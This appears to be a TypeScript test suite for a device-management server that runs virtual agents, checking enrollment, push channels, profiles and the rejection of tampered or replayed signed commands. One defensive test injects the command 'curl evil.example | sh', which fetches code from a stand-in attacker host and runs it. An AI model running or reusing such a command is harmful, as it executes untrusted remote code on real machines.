import { sign } from 'node:crypto';
import { commandSigningInput } from '@ward/agent-protocol';
import type { CommandId, DeviceId, PendingCommand } from '@ward/core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runVirtualAgents, simulatorAgentVersion, type VirtualFleet } from '../src/index.js';
import { startInProcessWard, type InProcessWard } from './support/in-process-ward.js';

interface DeviceAction { readonly id: string; readonly type: string; readonly status: string; readonly result: Record<string, unknown> | null }
interface Outcome { readonly deviceId: string; readonly commandId: string | null; readonly status: string }

let ward: InProcessWard;
let fleet: VirtualFleet;
let enrollmentToken: string;

beforeAll(async () => {
  ward = await startInProcessWard();
  const created = await ward.api<{ text: string }>('POST', '/api/v1/enrollment-tokens', { name: 'Virtual fleet', maxUses: null, ownership: 'corporate', expiresInHours: 1 });
  enrollmentToken = created.text;
  fleet = await runVirtualAgents({ server: ward.url, enrollmentToken, count: 2, caPem: ward.caPem, hardwareIdPrefix: 'sim-test' });
  await fleet.until((s) => s.pushOpen === 2 && s.checkIns >= 2 && s.busy === 0, 20_000, 'two agents connected and checked in');
});

afterAll(async () => {
  await fleet.stop();
  await ward.close();
});

async function actionsOf(deviceId: string): Promise<DeviceAction[]> {
  return (await ward.api<{ items: DeviceAction[] }>('GET', `/api/v1/devices/${deviceId}/actions`)).items;
}

function device(index: number): { readonly deviceId: string } {
  const agent = fleet.agents[index];
  if (agent === undefined) throw new Error(`no agent ${index}`);
  return agent.identity;
}

describe('a virtual agent against the real server composition', () => {
  it('enrolls with a CSR of its own key, holds a push socket and reports its facts', async () => {
    const { deviceId } = device(0);
    const detail = await ward.api<{ name: string; platform: string; facts: Record<string, unknown>; lastSeenAt: string | null }>('GET', `/api/v1/devices/${deviceId}`);
    expect(detail).toMatchObject({ name: 'virtual-00000', platform: 'linux', facts: { agentVersion: simulatorAgentVersion, encrypted: true } });
    expect(detail.lastSeenAt).not.toBeNull();
    expect(fleet.stats()).toMatchObject({ enrolled: 2, enrollFailures: 0, pushOpen: 2, checkInFailures: 0 });
  });

  it('is woken by a sync, and the check-in it makes fulfils it', async () => {
    const { deviceId } = device(0);
    const before = fleet.stats();
    const requested = await ward.api<{ items: Outcome[] }>('POST', '/api/v1/devices/actions', { deviceIds: [deviceId], type: 'sync' }, 202);
    expect(requested.items).toEqual([expect.objectContaining({ deviceId, status: 'queued' })]);
    const after = await fleet.until((s) => s.wakes > before.wakes && s.checkIns > before.checkIns && s.busy === 0, 10_000, 'the woken check-in');
    // The server completes a sync at the check-in it asked for: no command travels, no result comes back.
    expect(after.commandsReceived - before.commandsReceived).toBe(0);
    expect(after.checkIns - before.checkIns).toBe(1);
    const [action] = await actionsOf(deviceId);
    expect(action).toMatchObject({ id: requested.items[0]?.commandId, type: 'sync', status: 'succeeded' });
  });

  it('refuses a command whose signed content was altered, and reports it failed', async () => {
    const { deviceId } = device(1);
    const { deps, tenant, storeSet } = ward.server.runtime;
    const now = new Date();
    const expiresAt = new Date(now.getTime() + 3_600_000);
    const id = deps.ids.newId() as CommandId;
    // Signed by the server's real key over one script, queued with another: what an attacker with
    // write access to the queue (but not the key) could do.
    const signed = { id, deviceId, type: 'runScript', payload: { interpreter: 'sh', script: 'echo hello', timeoutSeconds: 10 }, expiresAt: expiresAt.toISOString() };
    const signature = sign('sha256', commandSigningInput(signed), ward.server.keys.commandSigning.privateKey).toString('base64');
    const tampered: PendingCommand = {
      id, tenantId: tenant.id, deviceId: deviceId as DeviceId, type: 'runScript', payload: { ...signed.payload, script: 'curl evil.example | sh' }, signature,
      status: 'queued', deliveries: 0, requestedBy: 'attacker', createdAt: now, sentAt: null, expiresAt,
    };
    await deps.tx.transaction(async (s) => { await s.enqueueCommand(tampered); });
    storeSet.events.publishNow({ type: 'device.wake', tenantId: tenant.id, subject: deviceId });

    const after = await fleet.until((s) => (s.acknowledged.runScript?.failed ?? 0) === 1 && s.busy === 0, 10_000, 'the refusal acknowledged');
    expect(after.commandsRefused).toBe(1);
    expect(after.acknowledged.runScript?.succeeded ?? 0).toBe(0);
    const [action] = await actionsOf(deviceId);
    expect(action).toMatchObject({ id, type: 'runScript', status: 'failed', result: expect.objectContaining({ error: 'signature invalid' }) });
  });

  it('refuses a genuine command replayed to another device', async () => {
    const target = device(0).deviceId;
    const other = device(1).deviceId;
    const { deps, tenant, storeSet } = ward.server.runtime;
    const now = new Date();
    const expiresAt = new Date(now.getTime() + 3_600_000);
    const id = deps.ids.newId() as CommandId;
    const signature = sign('sha256', commandSigningInput({ id, deviceId: other, type: 'lock', payload: {}, expiresAt: expiresAt.toISOString() }), ward.server.keys.commandSigning.privateKey).toString('base64');
    const refusedBefore = fleet.stats().commandsRefused;
    await deps.tx.transaction(async (s) => {
      await s.enqueueCommand({ id, tenantId: tenant.id, deviceId: target as DeviceId, type: 'lock', payload: {}, signature, status: 'queued', deliveries: 0, requestedBy: 'replay', createdAt: now, sentAt: null, expiresAt });
    });
    storeSet.events.publishNow({ type: 'device.wake', tenantId: tenant.id, subject: target });
    const after = await fleet.until((s) => (s.acknowledged.lock?.failed ?? 0) === 1 && s.busy === 0, 10_000, 'the replay refused');
    expect(after.commandsRefused).toBe(refusedBefore + 1);
    expect((await actionsOf(target))[0]).toMatchObject({ id, status: 'failed', result: expect.objectContaining({ error: 'signature invalid' }) });
  });

  it('checks in back to back over its push socket during a steady-state run, then returns to its schedule', async () => {
    const before = fleet.stats();
    const report = await fleet.steady(1_000, 200);
    expect(report.failures).toBe(0);
    expect(report.checkIns).toBeGreaterThan(4);
    const stats = fleet.stats();
    expect(stats.busy).toBe(0);
    // Every one of them over the open push socket: no TLS handshake, no HTTPS request.
    expect(stats.checkInsOverPush - before.checkInsOverPush).toBe(stats.checkIns - before.checkIns);
    expect(stats.tlsFull + stats.tlsResumed).toBe(before.tlsFull + before.tlsResumed);
    const checkIns = stats.checkIns;
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(fleet.stats().checkIns).toBe(checkIns);
  });

  it('opens the Noise push channel the server offers (on by default) without a TLS push socket, and checks in over it', async () => {
    const before = fleet.stats();
    expect(before).toMatchObject({ pushOpen: 2, pushNoiseOpen: 2, noiseOffers: 2, pushNoiseFailures: 0 });
    // Asked over HTTPS before opening any push channel: every channel opened was a Noise one.
    expect(before.pushOpened).toBe(before.pushNoiseOpened);
    expect(fleet.agents.map((agent) => agent.pushChannel)).toEqual(['noise', 'noise']);
    const report = await fleet.steady(500, 100);
    expect(report.failures).toBe(0);
    const stats = fleet.stats();
    expect(stats.checkInsOverNoise - before.checkInsOverNoise).toBe(stats.checkIns - before.checkIns);
  });

  it('checks in over HTTPS when not using the push socket, resuming its TLS session', async () => {
    const https = await runVirtualAgents({ server: ward.url, enrollmentToken, count: 1, caPem: ward.caPem, hardwareIdPrefix: 'sim-https', checkInOverPush: false });
    try {
      await https.until((s) => s.pushOpen === 1 && s.checkIns >= 1 && s.busy === 0, 20_000, 'the agent connected and checked in');
      const report = await https.steady(1_000, 200);
      expect(report.failures).toBe(0);
      expect(report.checkIns).toBeGreaterThan(2);
      const stats = https.stats();
      expect(stats.checkInsOverPush).toBe(0);
      // After the first connection, check-in connections resume the device's TLS session.
      expect(stats.tlsResumed).toBeGreaterThan(0);
      expect(stats.tlsFull + stats.tlsResumed).toBe(stats.checkIns);
    } finally {
      await https.stop();
    }
  });

  it('applies an assigned settings profile (simulated) and reports it, setting by setting', async () => {
    const profile = await ward.api<{ id: string }>('POST', '/api/v1/profiles', {
      name: 'Simulated baseline',
      kind: 'settings',
      platforms: ['linux'],
      body: { settings: { 'restrictions.usbStorageDisabled': true, 'screenLock.timeoutSeconds': 300 } },
    });
    await ward.api('POST', `/api/v1/profiles/${profile.id}/assignments`, { target: { type: 'allDevices' } });
    // A device enrolled now gets its desired state at its first check-in, whatever the background jobs do.
    const configured = await runVirtualAgents({ server: ward.url, enrollmentToken, count: 1, caPem: ward.caPem, hardwareIdPrefix: 'sim-config' });
    try {
      const stats = await configured.until((s) => s.profileReportsAcknowledged >= 1 && s.busy === 0, 20_000, 'the profile reported');
      expect(stats).toMatchObject({ profilesApplied: 1, profilesRemoved: 0, profileReportsRefused: 0, checkInFailures: 0 });
      const agent = configured.agents[0];
      expect(agent?.profilesHeld).toBe(1);
      const status = await ward.api<{ items: { profileId: string; status: string; settings: { id: string; status: string }[] }[] }>('GET', `/api/v1/devices/${agent?.identity.deviceId ?? ''}/configuration`);
      expect(status.items).toEqual([
        expect.objectContaining({
          profileId: profile.id,
          status: 'succeeded',
          settings: expect.arrayContaining([{ id: 'restrictions.usbStorageDisabled', status: 'succeeded' }, { id: 'screenLock.timeoutSeconds', status: 'succeeded' }]),
        }),
      ]);
    } finally {
      await configured.stop();
    }
  });
});

